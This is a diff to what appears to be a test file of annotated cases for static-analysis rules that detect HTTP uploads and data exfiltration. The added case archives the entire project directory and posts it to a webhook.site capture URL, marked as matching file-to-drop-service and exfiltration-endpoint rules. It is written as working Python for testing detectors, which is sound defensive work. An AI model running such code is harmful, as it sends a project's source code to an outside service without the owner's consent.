@@ -909,3 +909,14 @@ requests.post("http://198.51.100.7:8080/ingest", data=b"rows", timeout=5)
 # ok: upload-to-ip-address
 # ruleid: http-client
 requests.post("http://192.168.1.20/api/print", data=b"label", timeout=5)
+# an archive of the project sent to a request-capture service
+import io as _io_fd
+import tarfile as _tar_fd
+_fd_buf = _io_fd.BytesIO()
+with _tar_fd.open(fileobj=_fd_buf, mode="w:gz") as _fd_t:
+    _fd_t.add(".")
+# ruleid: file-to-drop-service, http-client, exfiltration-endpoint
+requests.post("https://webhook.site/0000-1111", files={"src": ("source.tar.gz", _fd_buf)}, timeout=60)
+# ok: file-to-drop-service
+# ruleid: http-client, exfiltration-endpoint
+requests.post("https://webhook.site/0000-1111", json={"status": "ok"}, timeout=5)
